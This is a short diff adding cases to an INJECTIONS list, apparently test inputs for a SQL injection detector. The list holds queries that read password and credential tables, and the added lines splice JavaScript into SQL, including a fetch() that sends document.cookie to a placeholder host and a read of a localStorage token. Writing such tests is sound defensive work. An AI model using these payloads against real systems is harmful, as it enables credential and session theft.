@@ -51,6 +51,9 @@ const INJECTIONS = [
   'SELECT user, authentication_string FROM mysql.user',
   'SELECT usename, passwd FROM pg_shadow',
   'SELECT email, password FROM users',
+  // A script glued into a statement (session 33, nb33: a %%sql cell of the shape carriers): a browser's objects are no columns.
+  "SELECT site, count(*) AS n FROM visits GROUP BY site ORDER BY n DESCfetch('https://x.example/c?'+document.cookie)",
+  "SELECT id FROM t WHERE a = 1 AND localStorage.getItem('token') IS NOT NULL",
   // libinjection's fragments: a statement the application's own would continue, unbalanced, a number glued to a name.
   'select 1 from foo where',
   'select sin(1),2 from bar where',
